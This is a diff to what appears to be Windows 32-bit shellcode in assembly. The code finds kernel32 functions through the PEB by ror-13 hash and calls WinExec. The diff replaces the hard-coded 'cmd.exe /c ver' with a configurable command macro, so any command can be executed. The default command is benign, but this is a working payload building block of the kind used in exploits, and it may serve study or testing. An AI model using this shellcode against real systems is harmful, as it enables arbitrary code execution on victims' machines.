@@ -1,5 +1,8 @@
 ; Windows, 32 bit: PEB, loader list, export table searched by ror-13 hashes; WinExec("cmd.exe /c ver"), ExitProcess.
 bits 32
+%ifndef WINDOWS_COMMAND
+%define WINDOWS_COMMAND 'cmd.exe /c ver'
+%endif
         cld
         call main
 ; find(hash): the function of kernel32 with that hash, in eax
@@ -43,7 +46,7 @@ main:   pop ebp
         push dword 0x0e8afe98   ; WinExec
         call ebp
         call run
-        db 'cmd.exe /c ver', 0
+        db WINDOWS_COMMAND, 0
 run:    pop ecx
         push byte 1
         push ecx
